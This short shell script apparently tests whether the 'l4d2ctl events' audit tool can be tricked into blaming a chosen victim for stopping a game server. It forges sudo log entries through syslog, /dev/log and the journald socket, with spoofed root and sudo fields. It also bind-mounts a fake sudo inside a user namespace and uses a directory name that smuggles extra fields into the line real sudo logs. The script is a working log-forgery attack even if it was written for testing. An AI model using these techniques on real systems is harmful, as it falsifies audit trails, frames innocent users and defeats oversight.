#!/bin/sh
# Tries to make `l4d2ctl events` accuse VICTIM of stopping a server: lines of sudo from a program that only calls itself so.
# usage: forge_sudo_line.sh VICTIM SERVER
# shellcheck disable=SC2016  # the variables are perl's, or the inner shell's
set -eu
line="$1 : PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop left4me-server@$2"
mkdir -p "$HOME/bin"
# A copy of perl called sudo, which logs and lives on until journald has looked up who it is.
cp /usr/bin/perl "$HOME/bin/sudo"
log='use Sys::Syslog; openlog("sudo", "ndelay", "authpriv"); syslog("notice", "%s", $ARGV[0]); sleep 2'
plain='use Socket; socket(my $s, AF_UNIX, SOCK_DGRAM, 0); connect($s, sockaddr_un("/dev/log")) or die; syswrite($s, "<85>sudo[$$]: $ARGV[0]"); sleep 2'
native='use Socket; socket(my $s, AF_UNIX, SOCK_DGRAM, 0); connect($s, sockaddr_un("/run/systemd/journal/socket")) or die;
    syswrite($s, "MESSAGE=$ARGV[0]\n_COMM=sudo\n_EXE=/usr/bin/sudo\n_UID=0\nSYSLOG_IDENTIFIER=sudo\n"); sleep 2'
"$HOME/bin/sudo" -e "$log" "$line" 2>/dev/null || true
"$HOME/bin/sudo" -e "$plain" "$line"
"$HOME/bin/sudo" -e "$native" "$line"
perl -e "$native" "$line"
# The same in a user namespace of its own, where that program is /usr/bin/sudo.
unshare --user --map-root-user --mount sh -c '
    mount --bind "$HOME/bin/sudo" /usr/bin/sudo && /usr/bin/sudo -e "$1" "$2"' sh "$plain" "$line" || echo "no user namespaces here"
# What sudo itself logs of a directory with such a name.
mkdir -p "$HOME/x ; USER=root ; COMMAND=/usr/bin/systemctl stop left4me-server@$2"
cd "$HOME/x ; USER=root ; COMMAND=/usr/bin/systemctl stop left4me-server@$2"
/usr/bin/sudo -n true 2>/dev/null || true
